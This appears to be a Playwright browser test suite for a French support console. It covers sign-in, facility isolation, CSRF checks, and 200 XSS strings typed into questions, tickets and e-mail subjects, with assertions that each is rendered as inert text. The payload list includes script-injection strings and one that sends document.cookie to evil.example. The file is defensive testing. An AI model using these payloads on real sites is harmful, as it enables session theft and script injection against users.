"""The console in a real browser: Debian's Chromium driven by Playwright, against the real
console process (``python -m console``) on SQLite and on PostgreSQL. The 200 hostile strings
are typed by staff as questions (review queue, unanswered list), as ticket descriptions (list
and detail) and, 40 of them, as the subjects of reported e-mails (campaigns).

Sign-in with a one-time link, a used link refused, sign-out; a referent never reaches another
facility; the review queue labelled and exported; the overview's charts drawn and its figures
those of the database; 200 hostile strings shown as text, with no dialog, no script and no
CSP violation; a form without its CSRF token refused. Screenshots go to
``var/test-screenshots/console-*.png``.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import sys
import time
import unicodedata
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path

import aiohttp
import pytest
import pytest_asyncio
import yaml
from playwright.async_api import Browser, ConsoleMessage, Dialog, Page, async_playwright
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from tests.auxil.toggle_proxy import free_port
from vigie.console.access import ConsoleAccess
from vigie.conversation.models import Turn
from vigie.conversation.turns import TurnLog
from vigie.core.settings import ROOT, Settings
from vigie.db.engine import create_engine, make_sessionmaker, upgrade
from vigie.people.directory import Directory
from vigie.phishing.mailcheck import analyse
from vigie.phishing.service import PhishingService
from vigie.tickets.service import TicketService
from vigie.tickets.views import TicketDraft

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
SCREENSHOTS = ROOT / "var" / "test-screenshots"
SECRET = "browser-test-secret-0123456789abcdef"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

_PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">clic</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<object data="javascript:alert(1)"></object>',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</blockquote><script>alert(1)</script>",
    '<base href="//evil.example/">',
    "<form action=//evil.example><button>ok</button></form>",
    "\u202eexe.txt\u202c <b>gras</b>",
    "\u200b<script>\u200balert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="this.src=\'//evil.example/?c=\'+document.cookie">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<embed src=javascript:alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
_WRAPPERS = [
    "{}",
    "mon mdp marche pas {}",
    "{} c'est quoi ce truc",
    "« {} » dans le mail",
    "urgent !!! {} ?",
]
HOSTILE = [wrapper.format(payload) for payload in _PAYLOADS for wrapper in _WRAPPERS]
assert len(HOSTILE) == 200


def _visible(text: str) -> str:
    """The text without format characters (bidirectional, zero-width), spaces collapsed."""
    return " ".join("".join(c for c in text if unicodedata.category(c) != "Cf").split())


@dataclass
class Console:
    url: str
    database_url: str
    sessions: async_sessionmaker[AsyncSession]
    access: ConsoleAccess
    ids: dict[str, int]
    export: Path
    log: Path
    problems: list[str] = field(default_factory=list)


async def _person(directory: Directory, facility_id: int, role: str, chat: int) -> int:
    code = await directory.create_invitation(facility_id=facility_id, role=role)
    person = await directory.redeem_invitation(
        code.code, channel="telegram", chat_id=chat, sender=f"b-{chat}"
    )
    return person.id


async def _seed(sessions: async_sessionmaker[AsyncSession]) -> dict[str, int]:
    directory = Directory(sessions)
    tilleuls = await directory.create_facility("EHPAD Les Tilleuls", "Brive")
    soleil = await directory.create_facility("Foyer Soleil", "Tulle")
    ids = {
        "tilleuls": tilleuls.id,
        "soleil": soleil.id,
        "referent_a": await _person(directory, tilleuls.id, "referent", 31),
        "staff_a": await _person(directory, tilleuls.id, "staff", 32),
        "staff_b": await _person(directory, soleil.id, "staff", 33),
    }
    ids["tech"] = (await directory.add_technician(name="Paul", chat_id=98, sender="b-98")).id
    turns = TurnLog(sessions)
    rows = [
        ("b-32", "mon antivirus clignote en rouge", "faq/antivirus", 0.92),
        ("b-32", "le logiciel des transmissions rame", "open_ticket", 0.8),
        ("b-32", "le truc du bidule marche pas", "nlu_fallback", 0.1),
        ("b-33", "c'est quoi un mail piégé", "faq/phishing_recognize", 0.85),
        ("b-33", "question du foyer soleil sans réponse", "nlu_fallback", 0.12),
    ]
    for sender, text, intent, confidence in rows:
        await turns.record(
            channel="telegram",
            sender=sender,
            text_in=text,
            text_out="…",
            intent=intent,
            confidence=confidence,
            article_id=None,
        )
    return ids


@pytest.fixture
def screenshots() -> Iterator[Path]:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    yield SCREENSHOTS


@pytest_asyncio.fixture
async def console(db_url: str, tmp_path: Path) -> AsyncIterator[Console]:
    """The real console process on a free port of 127.0.0.1, over a seeded database."""
    await asyncio.to_thread(upgrade, db_url)
    engine = create_engine(db_url)
    sessions = make_sessionmaker(engine)
    ids = await _seed(sessions)
    port = free_port()
    log = tmp_path / "console.log"
    env = {
        **os.environ,
        "DATABASE_URL": db_url,
        "CONSOLE_PORT": str(port),
        "PSEUDONYM_SECRET": SECRET,
        "PYTHONPATH": str(ROOT),
    }
    with log.open("wb") as out:
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "console", cwd=tmp_path, env=env, stdout=out, stderr=out
        )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 30
        async with aiohttp.ClientSession() as http:
            while True:
                try:
                    async with http.get(url + "/health", timeout=aiohttp.ClientTimeout(total=2)):
                        break
                except aiohttp.ClientError:
                    assert process.returncode is None, log.read_text(errors="replace")
                    assert time.monotonic() < deadline, "console not ready"
                    await asyncio.sleep(0.2)
        settings = Settings(_env_file=None, console_port=port, pseudonym_secret=SECRET)  # type: ignore[call-arg]
        yield Console(
            url, db_url, sessions, ConsoleAccess(sessions, settings), ids, tmp_path / "x", log
        )
    finally:
        process.terminate()
        try:
            await asyncio.wait_for(process.wait(), 10)
        except TimeoutError:
            process.kill()
            await process.wait()
        await engine.dispose()
    logged = log.read_text(encoding="utf-8", errors="replace")
    assert "Traceback" not in logged, logged
    for text in ("bidule", "script"):  # no message text in the console's log
        assert text not in logged


@pytest_asyncio.fixture
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        launched = await playwright.chromium.launch(
            executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS
        )
        try:
            yield launched
        finally:
            await launched.close()


async def _page(browser: Browser, console: Console) -> Page:
    """A new browser context (its own cookies) that records dialogs, page errors and CSP
    violations in ``console.problems``."""
    context = await browser.new_context(viewport={"width": 412, "height": 915})
    page = await context.new_page()

    async def on_dialog(dialog: Dialog) -> None:
        console.problems.append(f"dialog: {dialog.message}")
        await dialog.dismiss()

    def on_console(message: ConsoleMessage) -> None:
        # A refusal page (401, 403, 404) is logged as a failed load: expected. A CSP
        # violation (« Refused to … ») or a script error is a problem.
        if message.type == "error" and not message.text.startswith("Failed to load resource"):
            console.problems.append(f"console: {message.text}")

    page.on("dialog", on_dialog)
    page.on("console", on_console)
    page.on("pageerror", lambda error: console.problems.append(f"pageerror: {error}"))
    return page


async def _sign_in(browser: Browser, console: Console, person: str) -> tuple[Page, str]:
    link = await console.access.create_link(console.ids[person])
    path = "/entrer/" + link.rsplit("/entrer/", 1)[1]
    page = await _page(browser, console)
    await page.goto(console.url + path)
    await page.get_by_role("button", name="Entrer dans la console").click()
    await page.wait_for_url(console.url + "/")
    return page, path


async def test_sign_in_overview_and_sign_out(
    console: Console, browser: Browser, screenshots: Path
) -> None:
    page, path = await _sign_in(browser, console, "tech")
    assert await page.locator("h1").inner_text() == "Tous les établissements"
    async with console.sessions() as session:
        questions = await session.scalar(
            select(func.count())
            .select_from(Turn)
            .where(Turn.intent.not_in(("greet", "goodbye", "thank", "affirm", "deny")))
        )
    assert (await page.locator("#questions b").inner_text()) == str(questions)
    assert (await page.locator("#fallback b").inner_text()) == "2"
    charts = page.locator("svg.chart")
    assert await charts.count() == 2
    for index in range(2):
        box = await charts.nth(index).bounding_box()
        assert box is not None and box["width"] > 200 and box["height"] > 20
    assert await page.locator("svg.chart rect").count() >= 4
    await page.screenshot(path=str(screenshots / "console-overview.png"), full_page=True)
    # The same link again, in another browser: refused.
    again = await _page(browser, console)
    await again.goto(console.url + path)
    await again.get_by_role("button", name="Entrer dans la console").click()
    assert "a déjà servi" in await again.locator("main").inner_text()
    # Sign-out: the pages are closed again.
    await page.get_by_role("button", name="Se déconnecter").click()
    assert "déconnecté" in await page.locator("main").inner_text()
    await page.goto(console.url + "/")
    assert "/console" in await page.locator("main").inner_text()
    assert console.problems == []


async def test_a_referent_never_reaches_another_facility(
    console: Console, browser: Browser, screenshots: Path
) -> None:
    page, _ = await _sign_in(browser, console, "referent_a")
    main = await page.locator("main").inner_text()
    assert "EHPAD Les Tilleuls" in main and "Foyer Soleil" not in main
    assert "le truc du bidule marche pas" in main
    assert "question du foyer soleil" not in main
    await page.screenshot(path=str(screenshots / "console-referent.png"), full_page=True)
    for path in (
        f"/etablissements/{console.ids['soleil']}",
        "/etablissements/999999",
        "/etablissements/abc",
        "/revue",
    ):
        response = await page.goto(console.url + path)
        assert response is not None and response.status in (403, 404), path
        assert "Foyer Soleil" not in await page.locator("main").inner_text()
    assert await page.get_by_role("link", name="Questions à revoir").count() == 0
    assert console.problems == []


async def test_review_label_export_and_csrf(
    console: Console, browser: Browser, screenshots: Path, tmp_path: Path
) -> None:
    page, _ = await _sign_in(browser, console, "tech")
    await page.get_by_role("link", name="Questions à revoir").click()
    turn = page.locator("article.turn", has_text="le truc du bidule marche pas")
    await turn.locator("select[name=label]").select_option("open_ticket")
    await page.screenshot(path=str(screenshots / "console-review.png"), full_page=True)
    await turn.get_by_role("button", name="Étiqueter").click()
    await page.wait_for_url(console.url + "/revue")
    assert await page.locator("article.turn", has_text="bidule").count() == 0
    # A form whose CSRF token was removed is refused.
    other = page.locator("article.turn", has_text="question du foyer soleil")
    await other.locator("input[name=csrf]").evaluate("element => element.remove()")
    await other.get_by_role("button", name="Écarter").click()
    assert "Formulaire expiré" in await page.locator("main").inner_text()
    await page.goto(console.url + "/revue")
    await page.get_by_role("button", name="Exporter les exemples étiquetés").click()
    assert "1 exemple(s) exporté(s)" in await page.locator("#export-done").inner_text()
    exported = ROOT / "nlu_data" / "nlu" / "review.yml"
    try:
        data = yaml.safe_load(exported.read_text(encoding="utf-8"))
        assert {b["intent"]: b["examples"] for b in data["nlu"]} == {
            "open_ticket": "- le truc du bidule marche pas\n"
        }
    finally:
        exported.unlink(missing_ok=True)
    assert console.problems == []


async def test_hostile_strings_are_shown_as_text(
    console: Console, browser: Browser, screenshots: Path
) -> None:
    turns = TurnLog(console.sessions)
    for text in HOSTILE:
        await turns.record(
            channel="telegram",
            sender="b-32",
            text_in=text,
            text_out="…",
            intent="nlu_fallback",
            confidence=0.05,
            article_id=None,
        )
    # The same strings as ticket descriptions, and as the subjects of reported e-mails.
    settings = Settings(_env_file=None, pseudonym_secret=SECRET)  # type: ignore[call-arg]
    tickets = TicketService(console.sessions, settings)
    for number, text in enumerate(HOSTILE):
        await tickets.create(
            "b-32", TicketDraft(text, "printer", "me", "yes"), idempotency_key=f"h{number}"
        )
    phishing = PhishingService(console.sessions, settings)
    for number, payload in enumerate(_PAYLOADS):
        mail = EmailMessage()
        mail["From"] = f"Support <support@fake-{number}.example>"
        mail["To"] = "staff@ehpad.example"
        mail["Subject"] = payload
        mail.set_content(f"Votre compte expire http://fake-{number}.example/login")
        data = mail.as_bytes()
        await phishing.submit(
            sender="b-32",
            channel="telegram",
            chat_id=32,
            data=data,
            source="eml",
            filename="mail.eml",
            analysis=analyse(data),
        )
    page, _ = await _sign_in(browser, console, "tech")
    await page.goto(console.url + "/demandes")
    problems = await page.locator("table.list td.text").all_inner_texts()
    assert len(problems) == 200
    await page.locator("table.list a").first.click()
    assert await page.locator("blockquote.text").inner_text() in HOSTILE
    await page.goto(console.url + "/campagnes")
    subjects = await page.locator("table.list td.text a").all_inner_texts()
    assert 30 <= len(subjects) <= len(_PAYLOADS)  # alike mails may join one campaign
    # Shown as text; the analyser drops bidirectional and invisible characters from subjects.
    assert {_visible(s) for s in subjects} <= {_visible(p) for p in _PAYLOADS}
    await page.locator("table.list td.text a").first.click()
    assert await page.locator("h1").count() == 1
    assert await page.evaluate("() => window.__xss === undefined")
    await page.goto(console.url + "/revue")
    shown = await page.locator("blockquote.text").all_inner_texts()
    assert len(shown) == 50  # the queue's first page, newest first
    assert set(shown) <= set(HOSTILE)
    referent, _ = await _sign_in(browser, console, "referent_a")
    unanswered = await referent.locator("ul.unanswered li").all_inner_texts()
    assert unanswered and set(unanswered) <= set(HOSTILE)
    for current in (page, referent):
        assert await current.evaluate("() => window.__xss === undefined")
        assert (
            await current.locator("main script, main img, main iframe, main svg svg").count() == 0
        )
    await page.screenshot(path=str(screenshots / "console-hostile.png"), full_page=True)
    assert console.problems == []
